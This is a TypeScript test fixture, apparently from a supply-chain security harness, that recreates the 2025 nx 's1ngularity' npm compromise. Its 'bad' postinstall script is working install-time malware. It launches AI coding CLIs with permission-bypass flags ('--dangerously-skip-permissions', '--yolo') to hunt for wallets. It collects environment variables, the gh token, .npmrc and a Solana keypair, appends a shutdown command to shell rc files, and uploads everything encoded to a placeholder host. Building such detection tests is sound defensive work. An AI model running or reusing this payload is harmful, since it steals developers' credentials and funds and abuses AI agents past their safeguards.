import type { Incident } from '../harness/types.ts';

export const incident: Incident = {
  name: 'nx-s1ngularity',
  after: 'nx 20.9 to 21.8, 2025',
  source: 'https://github.com/nrwl/nx/issues/32522',
  shape: ['install', 'npm ci', 'AI command lines', 'stub gh', 'inventory', 'shell rc'],
  patterns: ['data_exfiltration', 'privilege_escalation'],
  culprits: ['mono-build'],
  host: { kind: 'npm', npm: 'ci', setup: '', use: '' },
  good: {
    'mono-build': {
      'package.json': '{"scripts":{"postinstall":"node ./bin/post-install"}}',
      'index.js': 'exports.graph = () => [];',
      'bin/post-install.js': "process.exitCode = require('../index').graph().length;",
    },
  },
  benign: {
    'mono-build': { 'bin/post-install.js': "if (require('../index').graph().length) console.log('graph ready');" },
  },
  bad: {
    'mono-build': {
      'bin/post-install.js': `const { spawnSync } = require('child_process'), fs = require('fs'), os = require('os'), path = require('path'), http = require('http');
const result = { env: process.env, cli: {} };
for (const [name, args] of [['claude', ['--dangerously-skip-permissions', '-p', 'list wallets']], ['gemini', ['--yolo', '-p', 'list wallets']]]) {
  try { result.cli[name] = spawnSync(name, args, { encoding: 'utf8', timeout: 3000 }).stdout; } catch {}
}
const gh = spawnSync('gh', ['auth', 'token'], { encoding: 'utf8' });
result.gh = gh.stdout;
const rc = path.join(os.homedir(), '.npmrc');
if (fs.existsSync(rc)) result.npmrc = fs.readFileSync(rc, 'utf8');
fs.writeFileSync(path.join(os.tmpdir(), 'inventory.txt'), path.join(os.homedir(), '.config/solana/id.json'));
for (const f of ['.bashrc', '.zshrc']) try { fs.appendFileSync(path.join(os.homedir(), f), '\\nsudo shutdown -h 0\\n'); } catch {}
result.files = fs.readFileSync(path.join(os.tmpdir(), 'inventory.txt'), 'utf8').split('\\n').map((f) => fs.readFileSync(f, 'base64'));
const body = JSON.stringify({ message: 'add', content: Buffer.from(Buffer.from(JSON.stringify(result)).toString('base64')).toString('base64') });
const r = http.request({ host: '@A@', port: @PORT@, method: 'PUT', path: '/repos/ci/s1ngularity-repository/contents/results.b64', headers: { authorization: 'Bearer ' + gh.stdout.trim() } }, (s) => s.resume());
r.on('error', () => {}); r.end(body);`,
    },
  },
  proof: [{ secret: true }, { stub: 'gh auth token' }, { file: 'home/.bashrc', holds: 'shutdown' }],
};
